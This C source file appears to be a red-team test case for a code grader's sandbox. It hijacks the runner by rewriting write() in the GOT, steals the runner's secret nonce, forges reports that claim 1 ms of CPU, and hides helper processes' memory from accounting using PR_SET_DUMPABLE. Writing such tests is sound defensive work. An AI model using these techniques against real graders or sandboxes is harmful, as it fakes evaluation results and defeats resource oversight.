/*
 * Memory out of the grader's sum (issue 29, class 4; red team 41b): as
 * hijack-helpers-memory-held - a constructor takes over the runner, and for
 * each request two helpers hold 2 x 56 MiB together for 300 ms against the
 * test's 64 MiB - but each helper first calls prctl(PR_SET_DUMPABLE, 0).
 * The grader's sum of the tree's memory (runner.c slot_watch_tree, pss_kb)
 * reads /proc/<pid>/smaps_rollup, which needs ptrace access to the process:
 * a grader of the same uid without CAP_SYS_PTRACE has none to a process
 * that is not dumpable, the read fails, and pss_kb() counts it as 0 kB.
 *   - root, and a normal user with user namespaces (the grader owns the
 *     runner's namespace, so it may still read): RLIMIT_NPROC 2, the
 *     second helper cannot be forked: wrong-answer (or memory-limit);
 *   - a normal user without user namespaces, and [delegated] (a cgroup v2
 *     subtree without the memory controller): should be memory-limit as
 *     hijack-helpers-memory-held is; today it is correct on every test.
 */
#include <signal.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/wait.h>
#include <unistd.h>
/* grader/runtime/protocol.h's records, whole (as in ctor-hijack-helper) */
struct hello { uint32_t magic, nfunctions; uint64_t present; uint32_t filtered, pid, load_kind, startup_len;
	uint64_t startup_total; uint32_t detail_len, pad; uint64_t nonce; };
struct request { uint32_t magic, size, case_id, function, cpu_ms, memory_mb, output_kb, pad; };
struct report { uint32_t magic, case_id; int32_t wait_status; uint32_t flags; int64_t answer;
	uint64_t cpu_us, maxrss_kb, output_total, nomem_bytes; int32_t syscall_nr; uint32_t output_kept,
	value_kind, detail_len, stop_signal, pad;
	uint64_t nonce; };
static int rd(int fd, void *b, size_t n)
{
	char *p = b;
	while (n) {
		ssize_t k = read(fd, p, n);
		if (k <= 0)
			return -1;
		p += k;
		n -= (size_t)k;
	}
	return 0;
}
/* says hello, then answers every request with answer(x) itself, claiming 1 ms of CPU */
/*
 * The runner's secret (protocol.h GR_NONCE_LEN) is in every record the
 * grader takes, so code that takes over the runner takes it from the
 * runtime's own hello: the constructor points the GOT slot of write() at
 * hooked_write (mprotect of the RELRO pages is allowed; nothing is made
 * executable), through which the runtime then sends that hello; the
 * runner is the submission's from there (after_hello, which forwards it).
 */
#include <link.h>
#include <signal.h>
#include <sys/auxv.h>
#include <sys/mman.h>
#include <sys/syscall.h>
static void after_hello(uint64_t nonce, const void *hello, size_t hello_len);
static ssize_t hooked_write(int fd, const void *buf, size_t n)
{
	if (fd == 4 && n >= 56 && *(const uint32_t *)buf == 0x4f4c4548u) {
		uint64_t nonce;
		sigset_t none;
		memcpy(&nonce, (const char *)buf + 48, sizeof nonce);
		sigemptyset(&none);
		sigprocmask(SIG_SETMASK, &none, NULL); /* as a constructor had them: main blocked them */
		after_hello(nonce, buf, n);
	}
	return syscall(SYS_write, fd, buf, n);
}
static void hook_write(void)
{
	const ElfW(Phdr) *ph = (const ElfW(Phdr) *)getauxval(AT_PHDR);
	unsigned long n = getauxval(AT_PHNUM);
	uintptr_t base = 0;
	for (unsigned long i = 0; i < n; i++)
		if (ph[i].p_type == PT_PHDR)
			base = (uintptr_t)ph - ph[i].p_vaddr;
	for (unsigned long i = 0; i < n; i++)
		if (ph[i].p_type == PT_GNU_RELRO) {
			uintptr_t lo = (base + ph[i].p_vaddr) & ~(uintptr_t)4095, hi = base + ph[i].p_vaddr + ph[i].p_memsz;
			mprotect((void *)lo, hi - lo, PROT_READ | PROT_WRITE);
			for (void **p = (void **)lo; (uintptr_t)(p + 1) <= hi; p++)
				if (*p == (void *)write)
					*p = (void *)hooked_write;
		}
}

static void serve(int64_t (*answer)(int64_t), uint64_t nonce, const void *hello, size_t hello_len)
{
	if (syscall(SYS_write, 4, hello, hello_len) < 0)
		_exit(0);
	for (;;) {
		struct request rq;
		static unsigned char buf[1 << 16];
		int64_t v;
		struct report r;
		if (rd(3, &rq, sizeof rq) || rq.size > sizeof buf || rd(3, buf, rq.size))
			_exit(0);
		memcpy(&v, buf + 1, 8);
		memset(&r, 0, sizeof r);
		r.magic = 0x50455247u;
		r.case_id = rq.case_id;
		r.nonce = nonce;
		r.flags = 1 | 64;
		r.answer = answer(v);
		r.cpu_us = 1000;
		if (write(4, &r, sizeof r) < 0)
			_exit(0);
	}
}

#define HELPERS 2
#define HELD (56u << 20)

static int64_t by_helpers(int64_t x)
{
	int ready[2], go[2], n = 0, forked = 0;
	char c;

	if (pipe(ready) < 0 || pipe(go) < 0)
		return 0;
	for (int i = 0; i < HELPERS; i++) {
		pid_t pid = fork();
		forked += pid > 0;
		if (pid == 0) {
			/* volatile: a store the compiler can see is never read (malloc memory that does not escape)
			 * is removed with the memset, and nothing would be held */
			volatile char *p;
			/* not dumpable: /proc/<pid>/smaps_rollup needs ptrace access, which a grader of the same
			 * uid without CAP_SYS_PTRACE then lacks - its Pss reads as nothing */
			prctl(PR_SET_DUMPABLE, 0, 0, 0, 0);
			p = malloc(HELD);
			close(go[1]);
			if (!p)
				_exit(1);
			for (size_t k = 0; k < HELD; k += 4096)
				p[k] = 1;
			if (write(ready[1], "r", 1) < 0)
				_exit(1);
			if (read(go[0], &c, 1) < 0) /* until the runner closes go: end of file */
				_exit(1);
			_exit(p[HELD - 4096] == 1 ? 0 : 1);
		}
	}
	close(ready[1]);
	close(go[0]);
	/* a helper the kernel killed (the cgroup's memory limit) closes its end: the read ends early */
	while (n < forked && read(ready[0], &c, 1) == 1)
		n++;
	usleep(300000); /* the helpers hold their memory meanwhile */
	close(go[1]);
	close(ready[0]);
	while (wait(NULL) > 0)
		;
	return n == HELPERS ? 2 * x : 2 * x + 1;
}

static void after_hello(uint64_t nonce, const void *hello, size_t hello_len)
{
	serve(by_helpers, nonce, hello, hello_len);
}

__attribute__((constructor)) static void take_over(void)
{
	hook_write();
}

long long twice(long long x) { return 2 * x; }
